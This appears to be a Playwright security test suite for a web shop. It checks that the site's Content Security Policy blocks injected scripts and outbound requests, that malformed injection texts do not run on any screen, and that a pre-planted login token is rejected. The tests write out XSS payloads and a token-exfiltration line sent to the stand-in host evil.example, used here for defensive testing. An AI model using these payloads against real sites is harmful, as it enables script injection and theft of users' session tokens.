import { responseFor, type ResponseValues } from '../../support/shop/responses';
import { ALL_INJECTION_TEXTS } from '../../support/malformed/texts';
import { expect, test } from '../../support/browser/journey';
import { collectPageErrors } from '../../support/browser/page-errors';
import { seedStorage, SCREEN_ROUTES } from '../../support/shop/routes';
import { createShopper } from '../shopper';

declare global {
  interface Window {
    ran?: number;
    stopped?: string[];
    __ran?: () => void;
  }
}

const EVIL = 'https://evil.example';

test('what breaks the policy in any page of a journey is heard by it', async ({ browser, baseURL }) => {
  const context = await browser.newContext();
  const troubles = await collectPageErrors(context);
  const page = await context.newPage();
  await page.goto(`${baseURL}/cart`);
  await page.evaluate(() =>
    document.body.append(Object.assign(document.createElement('img'), { src: 'http://x.test/' })),
  );
  await expect.poll(() => troubles.join('\n')).toContain('on /cart: policy violated: img-src by http://x.test/');
  await context.close();
});

test.describe('a script of somebody else', () => {
  // That the browser stops it is what this is about.
  test.use({ expectedErrors: [/./] });

  test('that got into the page does not run, and what would run could tell nobody [row 25]', async ({
    page,
    context,
  }) => {
    const requests: string[] = [];
    await context.route(`${EVIL}/**`, (route) => {
      requests.push(route.request().url());
      return route.abort();
    });
    await page.addInitScript(() => {
      window.ran = 0;
      window.stopped = [];
      window.__ran = () => {
        window.ran = (window.ran ?? 0) + 1;
      };
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        window.stopped?.push(effectiveDirective),
      );
    });
    await page.goto('/');
    await expect(page.getByRole('heading', { level: 1 })).toBeAttached();
    await page.evaluate(async (evil) => {
      const attempt = (act: () => unknown) => {
        try {
          act();
        } catch {
          window.stopped?.push('thrown');
        }
      };
      const put = (tag: string, change: (element: HTMLElement) => void) =>
        attempt(() => {
          const element = document.createElement(tag);
          change(element);
          document.body.append(element);
          element.click();
        });
      put('div', (div) => {
        div.innerHTML = '<img src=x onerror="window.__ran()"><svg onload="window.__ran()"></svg>';
      });
      put('div', (div) =>
        div.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>parent.__ran()</script>"></iframe>'),
      );
      put('script', (script) => {
        script.textContent = 'window.__ran()';
      });
      put('script', (script) => script.setAttribute('src', `${evil}/x.js`));
      put('script', (script) => script.setAttribute('src', 'data:text/javascript,window.__ran()'));
      put('button', (button) => button.setAttribute('onclick', 'window.__ran()'));
      put('a', (a) => a.setAttribute('href', 'javascript:window.__ran()'));
      put('iframe', (frame) => frame.setAttribute('src', 'javascript:parent.__ran()'));
      put('object', (object) => object.setAttribute('data', `${evil}/x.swf`));
      put('img', (img) => img.setAttribute('src', `${evil}/?token=${localStorage.getItem('token')}`));
      put('link', (link) => {
        link.setAttribute('rel', 'stylesheet');
        link.setAttribute('href', `${evil}/x.css`);
      });
      attempt(() => new Worker('data:text/javascript,1'));
      attempt(() => new Worker(`${evil}/worker.js`));
      attempt(() => window.setTimeout('window.__ran()'));
      attempt(() => navigator.sendBeacon(`${evil}/beacon`, 'token'));
      attempt(() => new WebSocket('wss://evil.example/'));
      attempt(() => new EventSource(`${evil}/events`));
      await fetch(`${evil}/fetch`).catch(() => window.stopped?.push('fetch'));
      await import(/* @vite-ignore */ 'data:text/javascript,window.__ran()' as string).catch(() => {});
    }, EVIL);
    await expect.poll(() => page.evaluate(() => window.stopped?.length ?? 0)).toBeGreaterThan(12);
    expect(await page.evaluate(() => window.ran)).toBe(0);
    expect(requests).toEqual([]);
  });
});

for (const [language, locale] of [
  ['ar', 'ar-KW'],
  ['en', 'en-GB'],
] as const)
  test.describe(language === 'ar' ? 'in Arabic' : 'in English', () => {
    test.use({ locale });

    test('none of 120 malformed texts runs on any screen, and none of them asks another host for anything [rows 25, 36, 58]', async ({
      page,
      context,
      baseURL,
    }) => {
      test.setTimeout(240_000);
      const foreign: string[] = [];
      page.on('request', (request) => {
        const url = new URL(request.url());
        // Pictures and clips may be on another host; the policy blocks requests to all but our own.
        if (url.protocol.startsWith('http') && url.origin !== baseURL && request.resourceType() !== 'image')
          foreign.push(request.url());
      });
      let next = 0;
      const take = () => ALL_INJECTION_TEXTS[next++ % ALL_INJECTION_TEXTS.length] as string;
      // Addresses come from the shop: a foreign picture is stopped by the policy, which is another test's matter.
      const filling: ResponseValues = { text: take, url: () => '/media/lamp-640.webp', count: 6 };
      await page.route(/\/api\//, (route) =>
        route.fulfill({ json: responseFor(new URL(route.request().url()).pathname.replace('/api/', ''), filling) }),
      );
      const kept = new Map<string, string>();
      seedStorage({ who: 'customer', cart: true }, {
        setItem: (key: string, value: string) => kept.set(key, value),
      } as never);
      await context.addInitScript(
        (entries) => {
          if (window.location.protocol === 'about:') return;
          window.ran = 0;
          window.__ran = () => {
            window.ran = (window.ran ?? 0) + 1;
          };
          for (const [key, value] of entries) localStorage.setItem(key, value);
        },
        [...kept],
      );
      const main = page.getByRole('main');
      await page.goto('/');
      for (const [route, { path }] of Object.entries(SCREEN_ROUTES))
        await test.step(route, async () => {
          const all = encodeURIComponent([take(), take(), take()].join(' ').replaceAll('\u0000', ''));
          const to =
            route === 'products'
              ? `/products?q=${all}`
              : route === 'paymentError'
                ? `${path}&ErrorMessage=${all}`
                : path;
          await page.evaluate((address) => window.history.pushState(null, '', address), to);
          await expect(main.getByRole('heading').first()).not.toBeEmpty();
          expect(
            await main.locator('script, iframe, object, embed, base, [onerror], [onload], [onclick]').count(),
          ).toBe(0);
        });
      expect(await page.evaluate(() => window.ran)).toBe(0);
      expect(foreign).toEqual([]);
      expect(next).toBeGreaterThan(ALL_INJECTION_TEXTS.length);
    });
  });

test.describe('a token that somebody planted before', () => {
  test.use({ locale: 'en-GB' });

  test('is not the one that a login makes, and opens nothing afterwards [row 14]', async ({ page, shop }) => {
    const shopper = createShopper(page, 'en', shop.codeFor);
    const planted = 'p'.repeat(43);
    await shopper.open('/');
    await page.evaluate((token) => {
      for (const key of ['token', 'auth_token']) localStorage.setItem(key, token);
    }, planted);
    await shopper.open('/login');
    await shopper.logIn('51140001');
    await expect(page).toHaveURL(/\/$/);
    const own = await page.evaluate(() => localStorage.getItem('token'));
    expect(own).toMatch(/^[\w-]{43}$/);
    expect(own).not.toBe(planted);
    const worth = (token: string) =>
      page.evaluate(
        async (bearer) =>
          (await fetch('/api/customer/session', { headers: { Authorization: `Bearer ${bearer}` } })).status,
        token,
      );
    expect(await worth(planted)).toBe(401);
    expect(await worth(own ?? '')).toBe(200);
  });
});
